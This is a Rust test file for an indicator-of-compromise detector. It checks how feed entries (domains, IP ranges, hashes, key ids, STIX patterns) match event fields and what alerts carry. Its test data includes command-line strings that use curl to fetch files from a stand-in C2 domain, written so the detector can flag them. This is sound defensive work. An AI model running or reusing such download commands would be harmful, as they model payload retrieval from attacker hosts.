//! The detector over events: typed fields, AND/OR, validity windows, and
//! what an alert carries.

use std::sync::Arc;

use vigie_core::{parse_timestamp, Alert, Detector, Event, FieldNames, Level, ValueKind};
use vigie_ioc::{FeedSet, FieldTable, IocDetector, IocOptions};

struct Setup {
    detector: IocDetector,
    names: Arc<FieldNames>,
}

fn setup(feed: &str, file: &str, any_field: bool) -> Setup {
    let mut set = FeedSet::new();
    set.add_text("test-feed", file, feed);
    assert!(set.report.bad.is_empty(), "{:?}", set.report.bad);
    assert!(set.report.errors.is_empty(), "{:?}", set.report.errors);
    let (index, feeds, _) = set.into_index();
    let mut names = FieldNames::new();
    let detector = IocDetector::new(
        index,
        feeds,
        &FieldTable::builtin(),
        &mut names,
        IocOptions { any_field },
    )
    .unwrap();
    Setup {
        detector,
        names: Arc::new(names),
    }
}

fn run(s: &Setup, time: Option<&str>, fields: &[(&str, &str)]) -> Vec<Alert> {
    let mut event = Event::new(s.names.clone());
    for (k, v) in fields {
        event.push(k, v, ValueKind::Str);
    }
    event.timestamp = time.and_then(parse_timestamp);
    let mut alerts = Vec::new();
    s.detector.detect(&event, &mut |a| alerts.push(a));
    alerts
}

const CSV: &str = "id,type,value,confidence,tags,description,reference\n\
    dom-1,domain,evil.com,90,apt-x,C2 domain,https://ref.example/1\n\
    net-1,ip,198.51.100.0/24,60,,Scanner range,\n\
    net-6,ip,2001:db8:bad::/48,60,,,\n\
    hash-1,hash,44d88612fea8a8f36de82e1278abb02f,95,,EICAR,\n\
    kid-1,kid,1LTMzakihiRla_8z2BEJVXeWMqo,100,,,\n\
    app-1,app-id,5a95e683-08ad-424e-a441-1d1aec52c02c,70,,,\n\
    ua-1,user-agent,BadBot/1.0,40,,,\n\
    mail-1,email,ceo@phish.example,80,,,\n";

#[test]
fn subdomains_match_but_not_lookalikes() {
    let s = setup(CSV, "feed.csv", false);
    assert_eq!(run(&s, None, &[("QueryName", "evil.com")]).len(), 1);
    assert_eq!(run(&s, None, &[("QueryName", "cdn.EVIL.com.")]).len(), 1);
    assert_eq!(run(&s, None, &[("QueryName", "notevil.com")]).len(), 0);
    assert_eq!(
        run(&s, None, &[("DestinationHostname", "evil.com.example.org")]).len(),
        0
    );
    // A URL's host and an address's domain are host names too.
    assert_eq!(
        run(&s, None, &[("RequestUri", "https://x.evil.com:8443/a?b=c")]).len(),
        1
    );
    assert_eq!(run(&s, None, &[("Sender", "bob@mail.evil.com")]).len(), 1);
    // Not a field that holds host names: no match without --ioc-any-field.
    assert_eq!(
        run(&s, None, &[("CommandLine", "curl http://evil.com/a")]).len(),
        0
    );
}

#[test]
fn ips_in_cidrs_with_ports_and_v6() {
    let s = setup(CSV, "feed.csv", false);
    assert_eq!(
        run(&s, None, &[("ClientIP", "198.51.100.23:51234")]).len(),
        1
    );
    assert_eq!(
        run(&s, None, &[("properties.ipAddress", "198.51.100.250")]).len(),
        1
    );
    assert_eq!(run(&s, None, &[("IpAddress", "198.51.101.1")]).len(), 0);
    assert_eq!(
        run(&s, None, &[("DestinationIp", "[2001:db8:bad:1::5]:443")]).len(),
        1
    );
    assert_eq!(run(&s, None, &[("SourceIp", "2001:db8:bae::1")]).len(), 0);
    assert_eq!(run(&s, None, &[("IpAddress", "-")]).len(), 0);
}

#[test]
fn sysmon_hashes_list_and_cloud_ids() {
    let s = setup(CSV, "feed.csv", false);
    let hashes = "SHA1=3395856CE81F2B7382DEE72602F798B642F14140,MD5=44D88612FEA8A8F36DE82E1278ABB02F,SHA256=275A021BBFB6489E54D471899F7DB9D1663FC695EC2FE2A2C4538AABF651FD0F,IMPHASH=00000000000000000000000000000000";
    let alerts = run(&s, None, &[("Hashes", hashes)]);
    assert_eq!(alerts.len(), 1);
    assert_eq!(
        alerts[0].evidence,
        vec![("Hashes".to_string(), hashes.to_string())]
    );
    assert_eq!(
        run(&s, None, &[("kid", "1LTMzakihiRla_8z2BEJVXeWMqo")]).len(),
        1
    );
    // Key ids are case-sensitive base64url.
    assert_eq!(
        run(&s, None, &[("kid", "1ltmzakihirla_8z2bejvxewmqo")]).len(),
        0
    );
    assert_eq!(
        run(
            &s,
            None,
            &[("ClientAppId", "5A95E683-08AD-424E-A441-1D1AEC52C02C")]
        )
        .len(),
        1
    );
    assert_eq!(run(&s, None, &[("UserAgent", "badbot/1.0")]).len(), 1);
    assert_eq!(
        run(
            &s,
            None,
            &[("Recipients", "a@x.example; CEO@phish.example")]
        )
        .len(),
        1
    );
}

#[test]
fn an_alert_carries_indicator_feed_confidence_and_evidence() {
    let s = setup(CSV, "feed.csv", false);
    let alerts = run(&s, None, &[("EventID", "22"), ("QueryName", "a.evil.com")]);
    let a = &alerts[0];
    assert_eq!(a.rule.id, "dom-1");
    assert_eq!(a.rule.title, "IOC match: domain evil.com (test-feed)");
    assert_eq!(a.rule.level, Level::High);
    assert_eq!(a.rule.author, "test-feed");
    assert_eq!(a.rule.origin, "ioc:feed.csv");
    assert!(a.rule.description.contains("C2 domain"));
    assert!(a.rule.description.contains("confidence 90"));
    assert!(a.rule.tags.contains(&"apt-x".to_string()));
    assert_eq!(a.rule.references, vec!["https://ref.example/1".to_string()]);
    assert_eq!(a.evidence, vec![("QueryName".into(), "a.evil.com".into())]);
}

#[test]
fn and_needs_every_atom_in_the_same_event_and_or_needs_one() {
    let bundle = r#"{"type":"bundle","objects":[
      {"type":"indicator","id":"indicator--and","pattern_type":"stix","valid_from":"2020-01-01T00:00:00Z",
       "pattern":"[ipv4-addr:value = '203.0.113.5' AND x-vigie:app_id = '5a95e683-08ad-424e-a441-1d1aec52c02c']"},
      {"type":"indicator","id":"indicator--or","pattern_type":"stix","valid_from":"2020-01-01T00:00:00Z",
       "pattern":"[domain-name:value = 'a.example'] OR [domain-name:value = 'b.example']"}
    ]}"#;
    let s = setup(bundle, "bundle.json", false);
    let ip = ("ClientIP", "203.0.113.5");
    let app = ("AppId", "5a95e683-08ad-424e-a441-1d1aec52c02c");
    assert_eq!(run(&s, None, &[ip]).len(), 0);
    assert_eq!(run(&s, None, &[app]).len(), 0);
    let both = run(&s, None, &[ip, app]);
    assert_eq!(both.len(), 1);
    assert_eq!(both[0].rule.id, "indicator--and");
    assert_eq!(both[0].evidence.len(), 2);
    assert_eq!(run(&s, None, &[("QueryName", "b.example")]).len(), 1);
    assert_eq!(
        run(
            &s,
            None,
            &[
                ("QueryName", "a.example"),
                ("DestinationHostname", "b.example")
            ]
        )
        .len(),
        1
    );
}

#[test]
fn validity_window_is_checked_against_the_event_time() {
    let bundle = r#"[{"type":"indicator","id":"indicator--w","pattern_type":"stix",
       "pattern":"[domain-name:value = 'evil.example']",
       "valid_from":"2023-05-15T00:00:00Z","valid_until":"2023-07-15T00:00:00Z"}]"#;
    let s = setup(bundle, "w.json", false);
    let q = [("QueryName", "evil.example")];
    assert_eq!(run(&s, Some("2023-06-01T12:00:00Z"), &q).len(), 1);
    assert_eq!(run(&s, Some("2023-05-14T23:59:59Z"), &q).len(), 0);
    assert_eq!(run(&s, Some("2023-07-15T00:00:00Z"), &q).len(), 0);
    // No readable time: matched rather than missed.
    assert_eq!(run(&s, None, &q).len(), 1);
}

#[test]
fn any_field_finds_values_inside_text_at_word_boundaries() {
    let s = setup(CSV, "feed.csv", true);
    let alerts = run(
        &s,
        None,
        &[("CommandLine", "curl http://cdn.evil.com/a.ps1")],
    );
    assert_eq!(alerts.len(), 1);
    assert_eq!(alerts[0].evidence[0].0, "CommandLine");
    assert_eq!(
        run(&s, None, &[("CommandLine", "ping notevil.com")]).len(),
        0
    );
    // A typed field and the any-field pass finding the same value give one
    // alert.
    assert_eq!(run(&s, None, &[("QueryName", "evil.com")]).len(), 1);
}

#[test]
fn builtin_pack_flags_the_storm_0558_key_in_both_forms() {
    let mut set = FeedSet::new();
    set.add_builtin();
    let (index, feeds, _) = set.into_index();
    let mut names = FieldNames::new();
    let detector = IocDetector::new(
        index,
        feeds,
        &FieldTable::builtin(),
        &mut names,
        IocOptions::default(),
    )
    .unwrap();
    let s = Setup {
        detector,
        names: Arc::new(names),
    };
    let by_kid = run(&s, None, &[("kid", "1LTMzakihiRla_8z2BEJVXeWMqo")]);
    assert!(by_kid.iter().any(|a| a.rule.level == Level::Critical));
    let by_thumb = run(
        &s,
        None,
        &[("Thumbprint", "D4B4CCCDA9228624656BFF33D8110955779632AA")],
    );
    assert_eq!(by_thumb.len(), 1);
    let tenant = run(
        &s,
        None,
        &[("TokenTenantId", "9188040d-6c67-4c5b-b112-36a304b66dad")],
    );
    assert_eq!(tenant[0].rule.level, Level::Informational);
}
